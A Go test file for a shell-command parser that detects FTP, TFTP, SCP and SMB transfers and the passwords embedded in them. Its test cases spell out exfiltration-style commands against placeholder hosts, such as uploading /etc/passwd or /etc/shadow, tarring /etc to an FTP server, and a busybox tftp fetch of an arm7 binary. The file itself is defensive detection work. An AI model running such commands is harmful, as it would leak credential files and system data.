package shellcmd

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// show writes a transfer as tests read it: tool, protocol, direction, URL or host, user, whether it holds a password.
func show(t Transfer) string {
	dir := ""
	if t.Sends {
		dir += ">"
	}
	if t.Fetches {
		dir += "<"
	}
	s := fmt.Sprintf("%s %s%s %s", t.Tool, t.Protocol, dir, t.URL)
	if t.User != "" {
		s += " user=" + t.User
	}
	if t.Password {
		s += " password"
	}
	return strings.TrimSpace(s)
}

func TestRead(t *testing.T) {
	for _, tt := range []struct {
		name, line string
		want       []string
		secrets    []string
	}{
		{"nothing", "/usr/bin/apt-get -q update && echo ftp done", nil, nil},
		{"curl upload", `curl -sS -T /etc/passwd -u "bob:Wharf-7" ftp://192.0.2.9/in/`, []string{"curl ftp> ftp://192.0.2.9/in/ user=bob password"}, []string{"Wharf-7"}},
		{"curl long options", "curl --upload-file x --user=bob:Wharf-7 ftps://h.example:2121/x", []string{"curl ftps> ftps://h.example:2121/x user=bob password"}, []string{"Wharf-7"}},
		{"curl guesses", "curl -O ftp.example.net/pub/x", []string{"curl ftp< ftp://ftp.example.net/pub/x"}, nil},
		{"curl http", "curl -H 'Authorization: Bearer Wharf-7' https://h.example/x", []string{"curl https< https://h.example/x"}, []string{" Bearer Wharf-7"}},
		{"curl tftp", "curl -T f tftp://192.0.2.9/f", []string{"curl tftp> tftp://192.0.2.9/f"}, nil},
		{"wget", "wget -q --ftp-user=bob --ftp-password=Wharf-7 ftp://192.0.2.9/x -O /tmp/x", []string{"wget ftp< ftp://192.0.2.9/x user=bob password"}, []string{"Wharf-7"}},
		{"url with password", "wget ftp://bob:Wharf-7@192.0.2.9/x", []string{"wget ftp< ftp://192.0.2.9/x user=bob password"}, []string{"Wharf-7"}},
		{"ftp", "/usr/bin/ftp -n 192.0.2.9 2121 < /root/script", []string{"ftp ftp ftp://192.0.2.9:2121/"}, nil},
		{"tnftp upload", "ftp -u ftp://192.0.2.9/in/ /tmp/x.tgz", []string{"ftp ftp> ftp://192.0.2.9/in/"}, nil},
		{"ncftpput", "ncftpput -u bob -p Wharf-7 192.0.2.9 /in /tmp/x", []string{"ncftpput ftp> ftp://192.0.2.9/in user=bob password"}, []string{"Wharf-7"}},
		{"busybox ftpput", "busybox ftpput -u bob -p Wharf-7 192.0.2.9 x /tmp/x", []string{"ftpput ftp> ftp://192.0.2.9/x user=bob password"}, []string{"Wharf-7"}},
		{"lftp", `lftp -u bob,Wharf-7 -e "mirror -R /var/log in; quit" 192.0.2.9`, []string{"lftp ftp> ftp://192.0.2.9/ user=bob password"}, []string{"Wharf-7"}},
		{"lftp script", `lftp -c 'open -u bob,Wharf-7 ftps://h.example; put /etc/shadow'`, []string{"lftp ftps> ftps://h.example user=bob password"}, []string{"Wharf-7"}},
		{"lftp sftp", "lftp sftp://bob@192.0.2.9 -e 'get x; bye'", []string{"lftp sftp< sftp://192.0.2.9/ user=bob"}, nil},
		{"tftp-hpa", "tftp -v 192.0.2.9 -c put /etc/config", []string{"tftp tftp> tftp://192.0.2.9/etc/config"}, nil},
		{"tftp with -l and port", "tftp -l -m octet 192.0.2.9 6969 -c get boot.cfg", []string{"tftp tftp< tftp://192.0.2.9:6969/boot.cfg"}, nil},
		{"busybox tftp", "/bin/busybox tftp -g -l /tmp/a -r arm7 192.0.2.9", []string{"tftp tftp< tftp://192.0.2.9/arm7"}, nil},
		{"atftp", "atftp --put -l x -r y 192.0.2.9 69", []string{"atftp tftp> tftp://192.0.2.9/y"}, nil},
		{"scp out", "scp -q -P 2222 -r /var/log/* bob@192.0.2.9:/in", []string{"scp scp> scp://192.0.2.9:2222/in user=bob"}, nil},
		{"scp in", "scp 192.0.2.9:x .", []string{"scp scp< scp://192.0.2.9/x"}, nil},
		{"scp ipv6", "scp x [2001:db8::1]:y", []string{"scp scp> scp://[2001:db8::1]/y"}, nil},
		{"sftp", "sftp -b /root/batch bob@h.example", []string{"sftp sftp sftp://h.example/ user=bob"}, nil},
		{"smbclient", `smbclient //192.0.2.9/c$ -U 'bob%Wharf-7' -c 'put x; quit'`, []string{"smbclient smb> smb://192.0.2.9/c$ user=bob password"}, []string{"Wharf-7"}},
		{"smbclient backslashes", `smbclient '\\h.example\in' Wharf-7 -N`, []string{"smbclient smb smb://h.example/in password"}, []string{"Wharf-7"}},
		{"mount cifs", "mount -t cifs -o username=bob,password=Wharf-7,vers=1.0 //192.0.2.9/in /mnt", []string{"mount smb smb://192.0.2.9/in user=bob password"}, []string{"Wharf-7"}},
		{"mount_smbfs", "mount_smbfs //bob:Wharf-7@h.example/in /Volumes/in", []string{"mount_smbfs smb smb://h.example/in user=bob password"}, []string{"Wharf-7"}},
		{"mount other", "mount -o remount,rw /", nil, nil},
		{"curlftpfs", "curlftpfs bob:Wharf-7@h.example /mnt", []string{"curlftpfs ftp ftp://h.example/ user=bob password"}, []string{"Wharf-7"}},
		{"osascript", `osascript -e 'mount volume "smb://bob:Wharf-7@h.example/in"'`, []string{"osascript smb smb://h.example/in user=bob password"}, []string{"Wharf-7"}},
		{"python", `python3 -c "from ftplib import FTP"`, []string{"python3 ftp"}, nil},
		{"wrappers", "cd /tmp && sudo -u bob nice -n 19 timeout -k 5 60 /usr/bin/tftp 192.0.2.9 -c get x >/dev/null 2>&1", []string{"tftp tftp< tftp://192.0.2.9/x"}, nil},
		{"shell in shell", `/bin/sh -c "curl -T x ftp://bob:Wharf-7@192.0.2.9/ || true"`, []string{"curl ftp> ftp://192.0.2.9/ user=bob password"}, []string{"Wharf-7"}},
		{"escaped shell in shell", `bash -lc "sh -c \"curl -u bob:Wharf-7 ftp://192.0.2.9/x\""`, []string{"curl ftp< ftp://192.0.2.9/x user=bob password"}, []string{`"sh -c \"curl -u bob:Wharf-7 ftp://192.0.2.9/x\""`}},
		{"substitution", "echo $(wget -qO- ftp://192.0.2.9/x) `tftp 192.0.2.8 -c get y`", []string{"wget ftp< ftp://192.0.2.9/x", "tftp tftp< tftp://192.0.2.8/y"}, nil},
		{"in quotes", `echo "$(curl ftp://192.0.2.9/x)"`, []string{"curl ftp< ftp://192.0.2.9/x"}, nil},
		{"keywords", "if true; then curl ftp://192.0.2.9/x; fi", []string{"curl ftp< ftp://192.0.2.9/x"}, nil},
		{"find", `find /var/log -name '*.gz' -exec curl -T {} ftp://192.0.2.9/ \;`, []string{"curl ftp> ftp://192.0.2.9/"}, nil},
		{"xargs", "ls | xargs -n 1 -I{} scp {} 192.0.2.9:in/", []string{"scp scp> scp://192.0.2.9/in/"}, nil},
		{"su", "su - bob -c 'sftp h.example:x'", []string{"sftp sftp< sftp://h.example/x"}, nil},
		{"flock", "flock -n /tmp/lock -c 'curl ftp://192.0.2.9/x'", []string{"curl ftp< ftp://192.0.2.9/x"}, nil},
		{"flock command", "flock -n /tmp/lock curl ftp://192.0.2.9/x", []string{"curl ftp< ftp://192.0.2.9/x"}, nil},
		{"sshpass", "sshpass -p Wharf-7 scp x bob@192.0.2.9:y", []string{"scp scp> scp://192.0.2.9/y user=bob"}, []string{"Wharf-7"}},
		{"sshpass joined", "sshpass -pWharf-7 sftp bob@192.0.2.9", []string{"sftp sftp sftp://192.0.2.9/ user=bob"}, []string{"Wharf-7"}},
		{"assignment", "FTP_PASSWORD=Wharf-7 /usr/local/bin/backup", nil, []string{"Wharf-7"}},
		{"variable", `curl -u "$U:$P" ftp://$HOST/x`, []string{"curl ftp< ftp://$HOST/x user=$U password"}, nil},
		{"comment", "true # curl ftp://192.0.2.9/x", nil, nil},
		{"words only", "grep -r 'ftp: 192.0.2.9' /etc", nil, nil},
		{"man page", "man curl", nil, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			transfers, found := Read([]byte(tt.line))
			var got, secrets []string
			for _, x := range transfers {
				got = append(got, show(x))
				if x.Start < 0 || x.End > len(tt.line) || x.Start >= x.End {
					t.Errorf("a command from %d to %d of %d", x.Start, x.End, len(tt.line))
				}
			}
			for _, s := range found {
				secrets = append(secrets, tt.line[s.Start:s.End])
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("transfers (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.secrets, secrets); diff != "" {
				t.Errorf("secrets (-want +got):\n%s", diff)
			}
		})
	}
}

// Whatever the text, reading ends, and what it finds lies inside.
func FuzzRead(f *testing.F) {
	for _, s := range []string{
		"sh -c \"curl -u a:b ftp://h/$(x \\`y\\`)\" | lftp -e 'open -u a,b h; put x' && tftp h -c get 'x",
		"mount -o user=a%b,password=c //d:e@f/g", "sshpass -p x scp a b:c 2>&1 <<EOF\nEOF",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, line []byte) {
		transfers, secrets := Read(line)
		for _, x := range transfers {
			if x.Start < 0 || x.Start > x.End || x.End > len(line) {
				t.Fatalf("a command from %d to %d of %d", x.Start, x.End, len(line))
			}
		}
		end := 0
		for _, s := range secrets {
			if s.Start < end || s.Start >= s.End || s.End > len(line) {
				t.Fatalf("a secret from %d to %d of %d, after %d", s.Start, s.End, len(line), end)
			}
			end = s.End
		}
	})
}

func BenchmarkRead(b *testing.B) {
	line := []byte(`/usr/bin/sudo -u backup /bin/sh -c "tar czf - /etc | curl -sS -T - -u backup:Wharf-7 ftp://192.0.2.9/in/etc.tgz" >/dev/null 2>&1`)
	b.ReportAllocs()
	b.SetBytes(int64(len(line)))
	for b.Loop() {
		if t, _ := Read(line); len(t) != 1 {
			b.Fatal(t)
		}
	}
}
